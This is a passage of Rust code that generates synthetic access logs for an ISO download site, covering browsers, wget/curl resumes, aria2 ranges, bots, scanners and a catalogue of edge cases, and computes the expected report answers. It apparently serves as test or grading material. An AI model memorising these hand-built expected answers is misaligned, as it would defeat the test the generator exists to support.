                        ("GET", 206, Some((first, _))) => Some((first, first + h.bytes)),
                        _ => None,
                    };
                    self.count(
                        c.key,
                        file,
                        h.start.div_euclid(DAY_MS),
                        h.bytes,
                        class,
                        cover,
                    );
                }
            }
            Req::Text(t) => line.extend_from_slice(t.as_bytes()),
        }
        line.extend_from_slice(b"\" ");
        push_u64(&mut line, u64::from(h.status));
        line.push(b' ');
        push_u64(&mut line, h.bytes);
        line.extend_from_slice(b" \"");
        line.extend_from_slice(h.referer.as_bytes());
        line.extend_from_slice(b"\" \"");
        line.extend_from_slice(h.ua.as_bytes());
        // `"%{Content-Range}o"`: the range a 206 sent, else `-`.
        line.extend_from_slice(b"\" \"");
        match (h.range, &h.req) {
            (Some((first, last)), Req::Iso { file, .. }) => {
                let size = iso_files()[*file].size;
                line.extend_from_slice(format!("bytes {first}-{last}/{size}").as_bytes());
            }
            _ => line.push(b'-'),
        }
        line.push(b'"');
        self.heap
            .push(Reverse((h.end.max(h.start), self.seq, line)));
        self.seq += 1;
        self.lines_made += 1;
    }

    fn count(
        &mut self,
        ip: u128,
        file: usize,
        day: i64,
        bytes: u64,
        class: u8,
        cover: Option<(u64, u64)>,
    ) {
        let ranges = self
            .covers
            .entry(day)
            .or_default()
            .entry((ip, file as u16))
            .or_default();
        ranges.extend(cover);
        let t = self.tally.entry((file as u16, day)).or_default();
        t.requests += 1;
        t.bytes += bytes;
        match self.seen.entry(day).or_default().entry((ip, file as u16)) {
            std::collections::hash_map::Entry::Vacant(v) => {
                v.insert(class);
                t.downloads += 1;
            }
            // A download's class is the strongest of its lines'.
            std::collections::hash_map::Entry::Occupied(mut o) => {
                let c = o.get_mut();
                *c = (*c).min(class);
            }
        }
    }

    /// `report --json --by class`, from `classes` and the days still in `seen`.
    fn answer_class(&self) -> Value {
        let mut classes = self.classes.clone();
        fold_classes(&mut classes, &self.seen);
        let files = iso_files();
        let mut by: BTreeMap<&str, BTreeMap<String, [u64; 4]>> = BTreeMap::new();
        for (&(file, day), n) in &classes {
            let d = self.start + Days::new(day as u64);
            let month = format!("{:04}-{:02}", d.year(), d.month());
            let e = by
                .entry(files[file as usize].path)
                .or_default()
                .entry(month)
                .or_default();
            for (a, b) in e.iter_mut().zip(n) {
                *a += b;
            }
        }
        let mut out = Map::new();
        for (path, months) in by {
            let mut m = Map::new();
            for (month, n) in months {
                let mut o = Map::new();
                for name in ["browser", "downloader", "bot", "other"] {
                    let i = CLASSES.iter().position(|c| *c == name).expect("a class");
                    o.insert(name.into(), n[i].into());
                }
                m.insert(month, Value::Object(o));
            }
            out.insert(path.to_owned(), Value::Object(m));
        }
        Value::Object(out)
    }

    /// `report --json --completed`: `{path: {"YYYY-MM": completed}}`, months
    /// of none left out.
    fn answer_completed(&self) -> Value {
        let mut completed = self.completed.clone();
        fold_completed(&mut completed, &self.covers);
        let files = iso_files();
        let mut by: BTreeMap<&str, BTreeMap<String, u64>> = BTreeMap::new();
        for (&(file, day), &n) in &completed {
            let d = self.start + Days::new(day as u64);
            let month = format!("{:04}-{:02}", d.year(), d.month());
            *by.entry(files[file as usize].path)
                .or_default()
                .entry(month)
                .or_default() += n;
        }
        let mut top = Map::new();
        for (path, months) in by {
            let m: Map<String, Value> = months
                .into_iter()
                .filter(|&(_, n)| n > 0)
                .map(|(k, n)| (k, n.into()))
                .collect();
            if !m.is_empty() {
                top.insert(path.to_owned(), Value::Object(m));
            }
        }
        Value::Object(top)
    }

    fn answers(&self) -> (Value, Value, Value, Value) {
        let files = iso_files();
        let mut by: BTreeMap<&str, BTreeMap<String, Tally>> = BTreeMap::new();
        for (&(file, day), t) in &self.tally {
            let d = self.start + Days::new(day as u64);
            let month = format!("{:04}-{:02}", d.year(), d.month());
            let e = by
                .entry(files[file as usize].path)
                .or_default()
                .entry(month)
                .or_default();
            e.downloads += t.downloads;
            e.requests += t.requests;
            e.bytes += t.bytes;
        }
        // BTreeMap order (bytewise paths, ascending months) becomes key order.
        let mut detail = Map::new();
        for (path, months) in by {
            let mut m = Map::new();
            for (month, t) in months {
                let mut o = Map::new();
                o.insert("downloads".into(), t.downloads.into());
                o.insert("requests".into(), t.requests.into());
                o.insert("bytes".into(), t.bytes.into());
                m.insert(month, Value::Object(o));
            }
            detail.insert(path.to_owned(), Value::Object(m));
        }
        let detail = Value::Object(detail);
        let plain = plain_from_detail(&detail);
        (detail, plain, self.answer_class(), self.answer_completed())
    }

    // --- random choices ----------------------------------------------------

    /// A client never seen before in this log (documentation ranges are kept
    /// for the catalogue, so its hand-checked answer cannot be disturbed).
    fn fresh_client(&mut self) -> Client {
        if self.rng.pct(22) {
            let x = loop {
                self.v6_next = self.v6_next.wrapping_add(1);
                let x = mix32(self.v6_next);
                if x != 0 {
                    break x;
                }
            };
            let iid: [u16; 4] = if self.rng.pct(30) {
                [0, 0, 0, self.rng.range(1, 0x30) as u16]
            } else {
                let r = self.rng.next();
                [
                    (r >> 48) as u16,
                    (r >> 32) as u16,
                    (r >> 16) as u16,
                    r as u16,
                ]
            };
            let a = Ipv6Addr::new(
                0x2001,
                0xdb8,
                (x >> 16) as u16,
                x as u16,
                iid[0],
                iid[1],
                iid[2],
                iid[3],
            );
            Client {
                key: u128::from(a),
                text: a.to_string(),
            }
        } else {
            let x = loop {
                self.v4_next = self.v4_next.wrapping_add(1);
                let x = mix32(self.v4_next);
                let first = x >> 24;
                let reserved = matches!(first, 0 | 10 | 100 | 127 | 169 | 172 | 192 | 198 | 203)
                    || first >= 224;
                if !reserved {
                    break x;
                }
            };
            let a = Ipv4Addr::from(x);
            Client {
                key: u128::from(a.to_ipv6_mapped()),
                text: a.to_string(),
            }
        }
    }

    /// A downloading client: usually new, sometimes one seen recently.
    fn downloader(&mut self) -> Client {
        if !self.recent.is_empty() && self.rng.pct(10) {
            let i = self.rng.below(self.recent.len() as u64) as usize;
            return self.recent[i].clone();
        }
        let c = self.fresh_client();
        if self.recent.len() < 4096 {
            self.recent.push(c.clone());
        } else {
            self.recent[self.recent_pos] = c.clone();
            self.recent_pos = (self.recent_pos + 1) % 4096;
        }
        c
    }

    /// Zipf-like popularity over the site's ISOs.
    fn pick_iso(&mut self) -> usize {
        static WEIGHTS: OnceLock<Vec<u64>> = OnceLock::new();
        let w = WEIGHTS.get_or_init(|| {
            (0..ISO_PATHS.len() as u64)
                .map(|i| 10_000 / (i + 2))
                .collect()
        });
        self.rng.weighted(w)
    }

    fn pick_variant(&mut self, odd_pct: u64) -> Variant {
        if self.rng.pct(odd_pct) {
            *self.rng.pick(ODD_VARIANTS)
        } else {
            Variant::Plain
        }
    }

    fn speed(&mut self) -> u64 {
        let (lo, hi, _) = SPEEDS[self.rng.weighted(&SPEED_WEIGHTS)];
        self.rng.range(lo, hi)
    }

    fn xfer_ms(bytes: u64, speed: u64) -> i64 {
        (bytes.saturating_mul(1000) / speed.max(1)) as i64 + 40
    }

    // --- building blocks ---------------------------------------------------

    /// A small static response; returns its end time.
    #[allow(clippy::too_many_arguments)]
    fn page(
        &mut self,
        c: &Client,
        t: i64,
        path: &str,
        status: u16,
        proto: &str,
        referer: &str,
        ua: &str,
    ) -> i64 {
        let body = page_size(path);
        let bytes = match status {
            200 => hdr_page(body) + body,
            304 => 189,
            _ => 437,
        };
        let req = format!("GET {path} {proto}");
        let end = t + self.rng.range_i(2, 180);
        self.emit(
            c,
            Hit {
                range: None,
                start: t,
                end,
                user: "-",
                req: Req::Text(&req),
                status,
                bytes,
                referer,
                ua,
            },
        );
        end
    }

    fn checksum(&mut self, c: &Client, t: i64, file: usize, ext: &str, referer: &str, ua: &str) {
        let f = &iso_files()[file];
        let body = checksum_size(f, ext);
        let req = format!("GET {}{} HTTP/1.1", f.wire, ext);
        let end = t + self.rng.range_i(3, 120);
        self.emit(
            c,
            Hit {
                range: None,
                start: t,
                end,
                user: "-",
                req: Req::Text(&req),
                status: 200,
                bytes: hdr_page(body) + body,
                referer,
                ua,
            },
        );
    }

    fn iso_hit(&mut self, c: &Client, dl: &Dl<'_>, t: i64, end: i64, status: u16, bytes: u64) {
        self.iso_hit_range(c, dl, t, end, status, bytes, None);
    }

    /// An ISO line whose `Content-Range` names `range` (first and last byte).
    #[allow(clippy::too_many_arguments)]
    fn iso_hit_range(
        &mut self,
        c: &Client,
        dl: &Dl<'_>,
        t: i64,
        end: i64,
        status: u16,
        bytes: u64,
        range: Option<(u64, u64)>,
    ) {
        self.emit(
            c,
            Hit {
                start: t,
                end,
                user: "-",
                req: Req::Iso {
                    method: dl.method,
                    file: dl.file,
                    variant: dl.variant,
                    proto: Some(dl.proto),
                },
                status,
                bytes,
                referer: dl.referer,
                ua: dl.ua,
                range,
            },
        );
    }

    /// A complete or interrupted-and-resumed download of `dl.file` starting at
    /// `t`; each resume is a 206 for the rest. Returns the last end time.
    fn download(&mut self, c: &Client, dl: &Dl<'_>, t: i64, interrupted: bool) -> i64 {
        let size = iso_files()[dl.file].size;
        let speed = self.speed();
        if !interrupted {
            let end = t + Self::xfer_ms(size, speed);
            self.iso_hit(c, dl, t, end, 200, hdr_full(size) + size);
            return end;
        }
        let mut got = size * self.rng.range(1, 95) / 100;
        let mut end = t + Self::xfer_ms(got, speed);
        self.iso_hit(c, dl, t, end, 200, hdr_full(size) + got);
        for round in 0..3 {
            // Resumes come seconds to hours later, sometimes after midnight.
            let gap = if self.rng.pct(10) {
                self.rng.range_i(2 * HOUR_MS, 10 * HOUR_MS)
            } else {
                self.rng.range_i(5_000, 40 * 60_000)
            };
            let s = end + gap;
            let rest = size - got;
            let part = if round < 2 && self.rng.pct(30) {
                rest * self.rng.range(10, 90) / 100
            } else {
                rest
            };
            let speed = self.speed();
            end = s + Self::xfer_ms(part, speed);
            let resume = Dl {
                method: "GET",
                ..*dl
            };
            self.iso_hit_range(
                c,
                &resume,
                s,
                end,
                206,
                hdr_range(got, size - 1, size) + part,
                Some((got, size - 1)),
            );
            got += part;
            if got == size {
                break;
            }
        }
        end
    }

    /// A 200 cut off after a few bytes (the user cancelled).
    fn aborted(&mut self, c: &Client, dl: &Dl<'_>, t: i64) -> i64 {
        let size = iso_files()[dl.file].size;
        let got = self.rng.below(2_000_000);
        let end = t + self.rng.range_i(30, 4_000);
        self.iso_hit(c, dl, t, end, 200, hdr_full(size) + got);
        end
    }

    fn head(&mut self, c: &Client, dl: &Dl<'_>, t: i64) -> i64 {
        let size = iso_files()[dl.file].size;
        let end = t + self.rng.range_i(2, 90);
        let h = Dl {
            method: "HEAD",
            ..*dl
        };
        self.iso_hit(c, &h, t, end, 200, hdr_full(size));
        end
    }

    /// Segmented download (aria2 style): `n` equal ranges requested in the
    /// same second (so ranges whose header sizes match give byte-identical
    /// lines) and a last range with the remainder.
    fn segmented(&mut self, c: &Client, dl: &Dl<'_>, t: i64, n: u64, stagger: bool) -> i64 {
        let size = iso_files()[dl.file].size;
        let seg = size / n;
        let speed = self.speed() / n;
        let second = t - t.rem_euclid(1000);
        let mut last_end = t;
        for i in 0..n {
            let first = i * seg;
            let last = if i + 1 == n {
                size - 1
            } else {
                first + seg - 1
            };
            let len = last - first + 1;
            let s = if stagger && i >= n / 2 {
                second + 1000 + (i as i64) * 9
            } else {
                second + (i as i64) * 9
            };
            let end = s + Self::xfer_ms(len, speed);
            let h = hdr_range(first, last, size) + len;
            self.iso_hit_range(c, dl, s, end, 206, h, Some((first, last)));
            last_end = last_end.max(end);
        }
        last_end
    }

    // --- random sessions ---------------------------------------------------

    fn all_new(&mut self, n: u64, days: u32, sink: &mut Sink<'_>) -> io::Result<()> {
        for i in 0..n {
            let x = u128::from(i) * SUBPOS + u128::from(self.rng.below(SUBPOS as u64));
            let t = time_at(x, u128::from(n) * SUBPOS, days);
            self.flush(t, sink)?;
            self.begin_session(t);
            let c = self.fresh_client();
            let ua = if self.rng.pct(50) {
                *self.rng.pick(CLI_UA)
            } else {
                *self.rng.pick(BROWSER_UA)
            };
            let dl = Dl {
                method: "GET",
                file: self.pick_iso(),
                variant: Variant::Plain,
                proto: "HTTP/1.1",
                referer: "-",
                ua,
            };
            self.download(&c, &dl, t, false);
        }
        Ok(())
    }

    fn mixed(&mut self, n: u64, days: u32, sink: &mut Sink<'_>) -> io::Result<()> {
        let mut made = 0u64;
        let mut cat = 0usize;
        while made < n {
            let x = u128::from(made) * SUBPOS + u128::from(self.rng.below(SUBPOS as u64));
            let t = time_at(x, u128::from(n) * SUBPOS, days);
            while cat < CATALOGUE.len() && catalogue_start(cat) <= t {
                self.catalogue_session(cat, sink)?;
                cat += 1;
            }
            self.flush(t, sink)?;
            self.begin_session(t);
            let before = self.lines_made;
            self.random_session(t);
            made += self.lines_made - before;
        }
        while cat < CATALOGUE.len() {
            self.catalogue_session(cat, sink)?;
            cat += 1;
        }
        Ok(())
    }

    fn random_session(&mut self, t: i64) {
        // browser, cli, aria2, bot, scanner, monitor, mirror probe, staff
        match self.rng.weighted(&[330, 230, 45, 170, 120, 75, 20, 10]) {
            0 => self.s_browser(t),
            1 => self.s_cli(t),
            2 => self.s_aria2(t),
            3 => self.s_bot(t),
            4 => self.s_scanner(t),
            5 => self.s_monitor(t),
            6 => self.s_mirror_probe(t),
            _ => self.s_staff(t),
        }
    }

    fn s_browser(&mut self, t0: i64) {
        let c = self.downloader();
        let ua = *self.rng.pick(BROWSER_UA);
        let proto = if self.rng.pct(55) {
            "HTTP/2.0"
        } else {
            "HTTP/1.1"
        };
        // One visitor in a thousand arrives with a huge tracking referer.
        let ext_ref = if self.rng.below(1000) == 0 {
            long_referer()
        } else {
            *self.rng.pick(EXTERNAL_REFERERS)
        };
        let landing = *self
            .rng
            .pick(&["/", "/", "/", "/index.html", "/releases/24.04/", "/isos/"]);
        let mut t = self.page(&c, t0, landing, 200, proto, ext_ref, ua);
        // Sub-resources: revalidated (304) by a returning browser.
        let sub = if self.rng.pct(20) { 304 } else { 200 };
        for (path, pct) in [("/style.css", 100), ("/favicon.ico", 70), ("/logo.svg", 40)] {
            if self.rng.pct(pct) {
                let s = t + self.rng.range_i(5, 300);
                t = self.page(&c, s, path, sub, proto, SITE, ua);
            }
        }
        if self.rng.pct(8) {
            let e = self.page(&c, t + 4_000, "/releases/", 200, proto, SITE, ua);
            self.page(&c, e + 2_500, "/releases/community/", 200, proto, SITE, ua);
        }
        if !self.rng.pct(62) {
            return;
        }
        let dl = Dl {
            method: "GET",
            file: self.pick_iso(),
            variant: self.pick_variant(6),
            proto,
            referer: SITE,
            ua,
        };
        let t = t + self.rng.range_i(2_000, 90_000);
        match self.rng.weighted(&[65, 12, 15, 8]) {
            0 => {
                self.download(&c, &dl, t, false);
            }
            1 => {
                self.download(&c, &dl, t, true);
            }
            2 => {
                let e = self.aborted(&c, &dl, t);
                if self.rng.pct(50) {
                    // Retried the same day: one more request, no new download.
                    let s = e + self.rng.range_i(1_000, 600_000);
                    self.download(&c, &dl, s, false);
                }
            }
            _ => {
                // Two files in one visit (desktop + server, say).
                self.download(&c, &dl, t, false);
                let other = Dl {
                    file: self.pick_iso(),
                    ..dl
                };
                let s = t + self.rng.range_i(1_000, 30_000);
                self.download(&c, &other, s, false);
            }
        }
        if self.rng.pct(25) {
            let ext = if self.rng.pct(75) { ".sha256" } else { ".asc" };
            let ct = t + self.rng.range_i(1_000, 60_000);
            self.checksum(&c, ct, dl.file, ext, SITE, ua);
        }
    }

    fn s_cli(&mut self, t0: i64) {
        let c = self.downloader();
        let ua = *self.rng.pick(CLI_UA);
        let mut dl = Dl {
            method: "GET",
            file: self.pick_iso(),
            variant: self.pick_variant(10),
            proto: "HTTP/1.1",
            referer: "-",
            ua,
        };
        let mut t = t0;
        if self.rng.pct(45) {
            let ext = CHECKSUM_EXTS[self.rng.weighted(&[50, 20, 20, 10])];
            self.checksum(&c, t, dl.file, ext, "-", ua);
            t += self.rng.range_i(200, 5_000);
        }
        if self.rng.pct(6) {
            // `wget …/latest.iso` follows the redirect to the current release.
            let e = self.page(&c, t, "/latest.iso", 301, "HTTP/1.1", "-", ua);
            t = e + 30;
            dl.file = 0;
        }
        if self.rng.pct(20) {
            t = self.head(&c, &dl, t) + self.rng.range_i(100, 3_000);
        }
        let size = iso_files()[dl.file].size;
        match self.rng.weighted(&[68, 20, 9, 2, 1]) {
            0 => {
                self.download(&c, &dl, t, false);
            }
            1 => {
                self.download(&c, &dl, t, true);
            }
            2 => {
                self.aborted(&c, &dl, t);
            }
            3 => {
                // `curl -z`: unchanged since the last fetch.
                let end = t + self.rng.range_i(5, 80);
                self.iso_hit(&c, &dl, t, end, 304, 187);
            }
            _ => {
                // `wget -c` on a file already complete: Range past the end.
                let end = t + self.rng.range_i(5, 80);
                self.iso_hit(&c, &dl, t, end, 416, 402 + digits(size));
            }
        }
    }

    fn s_aria2(&mut self, t: i64) {
        let c = self.downloader();
        let ua = *self.rng.pick(ARIA2_UA);
        let dl = Dl {
            method: "GET",
            file: self.pick_iso(),
            variant: Variant::Plain,
            proto: "HTTP/1.1",
            referer: "-",
            ua,
        };
        let n = *self.rng.pick(&[2, 4, 5, 5, 8, 16]);
        let stagger = self.rng.pct(20);
        self.segmented(&c, &dl, t, n, stagger);
    }

    fn s_bot(&mut self, t0: i64) {
        let (ua, net) = *self.rng.pick(BOTS);
        let c = Client::fixed(&format!(
            "{}.{}.{}.{}",
            net[0],
            net[1],
            net[2],
            self.rng.range(1, 254)
        ));
        let mut t = t0;
        if self.rng.pct(30) {
            t = self.page(&c, t, "/robots.txt", 200, "HTTP/1.1", "-", ua) + 500;
        }
        for _ in 0..self.rng.range(2, 9) {
            t += self.rng.range_i(300, 20_000);
            if self.rng.pct(40) {
                let file = self.pick_iso();
                let ext = *self.rng.pick(&CHECKSUM_EXTS);
                self.checksum(&c, t, file, ext, "-", ua);
            } else {
                let path = self.rng.pick(PAGES).0;
                self.page(&c, t, path, 200, "HTTP/1.1", "-", ua);
            }
        }
        if self.rng.pct(20) {
            let dl = Dl {
                method: "GET",
                file: self.pick_iso(),
                variant: Variant::Plain,
                proto: "HTTP/1.1",
                referer: "-",
                ua,
            };
            // Crawlers check the big files with HEAD, or fetch a first chunk.
            if self.rng.pct(75) {
                self.head(&c, &dl, t + 1_000);
            } else {
                self.aborted(&c, &dl, t + 1_000);
            }
        }
    }

    fn s_scanner(&mut self, t0: i64) {
        let c = self.fresh_client();
        let ua = *self.rng.pick(SCANNER_UA);
        let mut t = t0;
        for _ in 0..self.rng.range(3, 12) {
            let (req, status, bytes) = *self.rng.pick(SCANS);
            let end = t + self.rng.range_i(1, 300);
            self.emit(
                &c,
                Hit {
                    range: None,
                    start: t,
                    end,
                    user: "-",
                    req: Req::Text(req),
                    status,
                    bytes,
                    referer: "-",
                    ua,
                },
            );
            t = end + self.rng.range_i(20, 800);
        }
    }

    fn s_monitor(&mut self, t: i64) {
        let which = self.rng.below(MONITOR_UA.len() as u64) as usize;
        let c = Client::fixed(["192.0.2.10", "2001:db8:ffff::10", "192.0.2.11"][which]);
        let ua = MONITOR_UA[which];
        if self.rng.pct(50) {
            let end = t + self.rng.range_i(1, 20);
            self.emit(
                &c,
                Hit {
                    range: None,
                    start: t,
                    end,
                    user: "-",
                    req: Req::Text("HEAD / HTTP/1.1"),
                    status: 200,
                    bytes: hdr_page(8423),
                    referer: "-",
                    ua,
                },
            );
        } else {
            let status = if self.rng.pct(60) { 304 } else { 200 };
            self.page(&c, t, "/", status, "HTTP/1.1", "-", ua);
        }
    }

    fn s_mirror_probe(&mut self, t0: i64) {
        const PROBES: [&str; 3] = ["198.51.100.200", "198.51.100.201", "2001:db8:aaaa::2"];
        let ip = *self.rng.pick(&PROBES);
        let c = Client::fixed(ip);
        let mut t = t0;
        for _ in 0..self.rng.range(3, 8) {
            let dl = Dl {
                method: "HEAD",
                file: self.pick_iso(),
                variant: Variant::Plain,
                proto: "HTTP/1.1",
                referer: "-",
                ua: MIRROR_UA,
            };
            t = self.head(&c, &dl, t) + self.rng.range_i(50, 400);
        }
    }

    fn s_staff(&mut self, t: i64) {
        let c = self.fresh_client();
        let ua = BROWSER_UA[0];
        let e = t + 3;
        let hit = |start, end, user, req, status, bytes| Hit {
            range: None,
            start,
            end,
            user,
            req: Req::Text(req),
            status,
            bytes,
            referer: "-",
            ua,
        };
        self.emit(&c, hit(t, e, "-", "GET /.stats/ HTTP/1.1", 401, 672));
        self.emit(
            &c,
            hit(
                e + 4_000,
                e + 4_020,
                "admin",
                "GET /.stats/ HTTP/1.1",
                200,
                14_873,
            ),
        );
        self.emit(
            &c,
            hit(
                e + 9_000,
                e + 9_012,
                "admin",
                "GET /.stats/counts.json HTTP/1.1",
                200,
                3_911,
            ),
        );
    }

    // --- the fixed catalogue -----------------------------------------------

    fn catalogue_session(&mut self, i: usize, sink: &mut Sink<'_>) -> io::Result<()> {
        let t = catalogue_start(i);
        self.flush(t, sink)?;
        self.begin_session(t);
        let a = iso_index("/isos/linuxvillage-24.04-amd64.iso");
        let b = iso_index("/releases/24.04/linuxvillage-24.04-desktop-amd64.iso");
        let d = iso_index("/isos/linuxvillage-22.04-amd64.iso");
        let size_a = iso_files()[a].size;
        let get = |file, variant, proto, referer, ua| Dl {
            method: "GET",
            file,
            variant,
            proto,
            referer,
            ua,
        };
        let (ff, chrome, wget, curl) = (BROWSER_UA[0], BROWSER_UA[1], CLI_UA[0], CLI_UA[3]);
        match CATALOGUE[i].1 {
            // Browser: page, css, favicon, then a full download of A (A +1 dl).
            "browser" => {
                let c = Client::fixed("203.0.113.7");
                self.page(&c, t, "/", 200, "HTTP/2.0", "-", ff);
                self.page(&c, t + 300, "/style.css", 200, "HTTP/2.0", SITE, ff);
                self.page(&c, t + 320, "/favicon.ico", 200, "HTTP/2.0", SITE, ff);
                let dl = get(a, Variant::Plain, "HTTP/2.0", SITE, ff);
                self.iso_hit(
                    &c,
                    &dl,
                    t + 12_000,
                    t + 420_000,
                    200,
                    hdr_full(size_a) + size_a,
                );
            }
            // Wget: checksum, a 200 cut at 1234567890 bytes, a 206 for the rest
            // 45 minutes later (A +1 dl, 2 requests).
            "wget-resume" => {
                let c = Client::fixed("198.51.100.23");
                self.checksum(&c, t, a, ".sha256", "-", wget);
                let dl = get(a, Variant::Plain, "HTTP/1.1", "-", wget);
                let cut = 1_234_567_890;
                self.iso_hit(&c, &dl, t + 1_000, t + 600_000, 200, hdr_full(size_a) + cut);
                let rest = size_a - cut;
                let h = hdr_range(cut, size_a - 1, size_a) + rest;
                let range = Some((cut, size_a - 1));
                self.iso_hit_range(&c, &dl, t + 2_700_000, t + 3_000_000, 206, h, range);
            }
            // aria2: eight equal ranges of B in one second; ranges whose
            // Content-Range has as many digits give identical lines (B +1 dl, 8 requests).
            "aria2" => {
                let c = Client::fixed("2001:db8::5");
                let dl = get(b, Variant::Plain, "HTTP/1.1", "-", ARIA2_UA[0]);
                self.segmented(&c, &dl, t, 8, false);
            }
            // curl -I, then a GET aborted at 65536 bytes (A +1 dl, 2 requests).
            "head-then-abort" => {
                let c = Client::fixed("192.0.2.44");
                let dl = get(a, Variant::Plain, "HTTP/1.1", "-", curl);
                self.head(&c, &dl, t);
                self.iso_hit(
                    &c,
                    &dl,
                    t + 2_000,
                    t + 2_500,
                    200,
                    hdr_full(size_a) + 65_536,
                );
            }
            // %2D-encoded full download, then `//` aborted at 1 MiB (A +1 dl, 2 requests).
            "encoded" => {
                let c = Client::fixed("203.0.113.50");
                let dl = get(a, Variant::PctDash, "HTTP/1.1", SITE, chrome);
                self.iso_hit(&c, &dl, t, t + 300_000, 200, hdr_full(size_a) + size_a);
                let dl = get(a, Variant::DoubleSlash, "HTTP/1.1", SITE, chrome);
                let (s, e) = (t + 1_800_000, t + 1_801_000);
                self.iso_hit(&c, &dl, s, e, 200, hdr_full(size_a) + 1_048_576);
            }
            // Five clients, five spellings of D (D +5 dl, 5 requests; one is a HEAD).
            "spellings" => {
                let size_d = iso_files()[d].size;
                let cases = [
                    ("198.51.100.61", Variant::DotSeg),
                    ("198.51.100.62", Variant::DotDot),
                    ("198.51.100.63", Variant::Query),
                    ("198.51.100.64", Variant::PctDotLower),
                    ("2001:db8::64", Variant::Absolute),
                ];
                for (k, (ip, v)) in cases.into_iter().enumerate() {
                    let c = Client::fixed(ip);
                    let s = t + k as i64 * 60_000;
                    let dl = get(d, v, "HTTP/1.1", "-", wget);
                    self.iso_hit(&c, &dl, s, s + 200_000, 200, hdr_full(size_d) + size_d);
                }
                let c = Client::fixed("198.51.100.65");
                let dl = get(d, Variant::LeadingSlash, "HTTP/1.1", "-", curl);
                self.head(&c, &dl, t + 400_000);
            }
            // Every scanner line once, plus 304/416 on A and a checksum: nothing counts.
            "scanner" => {
                let c = Client::fixed("192.0.2.200");
                let ua = SCANNER_UA[4];
                let mut s = t;
                for &(req, status, bytes) in SCANS {
                    let hit = Hit {
                        range: None,
                        start: s,
                        end: s + 5,
                        user: "-",
                        req: Req::Text(req),
                        status,
                        bytes,
                        referer: "-",
                        ua,
                    };
                    self.emit(&c, hit);
                    s += 700;
                }
                let dl = get(a, Variant::Plain, "HTTP/1.1", "-", ua);
                self.iso_hit(&c, &dl, s, s + 4, 304, 187);
                self.iso_hit(&c, &dl, s + 700, s + 704, 416, 402 + digits(size_a));
                self.checksum(&c, s + 1_400, a, ".md5", "-", ua);
            }
            // Googlebot: robots, home, HEAD on A (A +1 dl); bingbot fetches a .sha512.
            "bots" => {
                let (gua, bua) = (BOTS[0].0, BOTS[1].0);
                let c = Client::fixed("198.51.100.66");
                self.page(&c, t, "/robots.txt", 200, "HTTP/1.1", "-", gua);
                self.page(&c, t + 2_000, "/", 200, "HTTP/1.1", "-", gua);
                self.head(&c, &get(a, Variant::Plain, "HTTP/1.1", "-", gua), t + 4_000);
                let c = Client::fixed("198.51.100.67");
                self.checksum(&c, t + 5_000, b, ".sha512", "-", bua);
            }
            // The upper-case .ISO file (its own key, +1 dl).
            "upper-case" => {
                let c = Client::fixed("203.0.113.80");
                let f = iso_index("/releases/legacy/LINUXVILLAGE-8.0-I386.ISO");
                let size = iso_files()[f].size;
                let dl = get(f, Variant::Plain, "HTTP/1.1", "-", curl);
                self.iso_hit(&c, &dl, t, t + 90_000, 200, hdr_full(size) + size);
            }
            // Lines longer than a pipe's atomic 4 KiB write: a 414 with an
            // 8000-byte target (not counted) and a full download of the arm64
            // ISO carrying an 8 KiB tracking referer (+1 dl).
            "long-lines" => {
                let c = Client::fixed("192.0.2.77");
                let req = format!("GET /?q={} HTTP/1.1", "A".repeat(8_000));
                let hit = Hit {
                    start: t,
                    end: t + 2,
                    user: "-",
                    req: Req::Text(&req),
                    status: 414,
                    bytes: 526,
                    referer: "-",
                    ua: SCANNER_UA[2],
                    range: None,
                };
                self.emit(&c, hit);
                let f = iso_index("/isos/linuxvillage-24.04-arm64.iso");
                let size = iso_files()[f].size;
                let c = Client::fixed("203.0.113.61");
                let dl = get(f, Variant::Plain, "HTTP/1.1", long_referer(), chrome);
                self.iso_hit(&c, &dl, t + 1_000, t + 200_000, 200, hdr_full(size) + size);
            }
            // The é file: percent-encoded by a browser, raw UTF-8 by curl (+2 dl).
            "utf8" => {
                let f = iso_index("/releases/community/linuxvillage-24.04-édition-amd64.iso");
                let size = iso_files()[f].size;
                let c = Client::fixed("2001:db8::e9");
                let dl = get(f, Variant::Plain, "HTTP/2.0", SITE, ff);
                self.iso_hit(&c, &dl, t, t + 250_000, 200, hdr_full(size) + size);
                let c = Client::fixed("2001:db8::e8");
                let dl = get(f, Variant::RawUtf8, "HTTP/1.1", "-", curl);
                self.iso_hit(&c, &dl, t + 1_000, t + 251_000, 200, hdr_full(size) + size);
            }
            // Day 1, 23:50: a slow download of A ending at 00:40 the next day,
            // logged then with day 1's date (A +1 dl in the first month).
            "midnight" => {
                let c = Client::fixed("198.51.100.99");
                let dl = get(a, Variant::Plain, "HTTP/1.1", "-", wget);
                self.iso_hit(&c, &dl, t, t + 50 * 60_000, 200, hdr_full(size_a) + size_a);
            }
            // Day 1, 23:59:59: D aborted at 5000000 bytes, logged at 00:00:09 (D +1 dl).
            "last-second" => {
                let c = Client::fixed("203.0.113.9");
                let dl = get(d, Variant::Plain, "HTTP/1.1", "-", curl);
                let size_d = iso_files()[d].size;
                self.iso_hit(&c, &dl, t, t + 10_000, 200, hdr_full(size_d) + 5_000_000);
            }
            // Day 2, 00:00:05: a page view logged before the midnight download.
            "after-midnight" => {
                let c = Client::fixed("203.0.113.7");
                self.page(&c, t, "/", 200, "HTTP/2.0", "-", ff);
            }
            // Day 2: the midnight client and the first browser fetch A again:
            // new day, new downloads (A +2 dl in the second month).
            "next-day" => {
                let c = Client::fixed("198.51.100.99");
                let dl = get(a, Variant::Plain, "HTTP/1.1", "-", wget);
                self.iso_hit(&c, &dl, t, t + 600_000, 200, hdr_full(size_a) + size_a);
                let c = Client::fixed("203.0.113.7");
                let dl = get(a, Variant::Plain, "HTTP/2.0", SITE, ff);
                let s = t + 9 * HOUR_MS;
                self.iso_hit(&c, &dl, s, s + 400_000, 200, hdr_full(size_a) + size_a);
            }
            other => unreachable!("catalogue entry {other}"),
        }
        Ok(())
    }
}

/// A request for an ISO as one client spells it.
#[derive(Clone, Copy)]
struct Dl<'a> {
    method: &'static str,
    file: usize,
    variant: Variant,
    proto: &'static str,
    referer: &'a str,
    ua: &'a str,
}

/// The edge-case catalogue: (start as (day, hour, minute, second), scenario), in start order.
/// Local start of a catalogue scenario: (day index, hour, minute, second).
type Clock = (i64, i64, i64, i64);

const CATALOGUE: &[(Clock, &str)] = &[
    ((0, 9, 0, 0), "browser"),
    ((0, 9, 5, 0), "wget-resume"),
    ((0, 10, 0, 0), "aria2"),
    ((0, 11, 0, 0), "head-then-abort"),
    ((0, 12, 0, 0), "encoded"),
    ((0, 13, 0, 0), "spellings"),
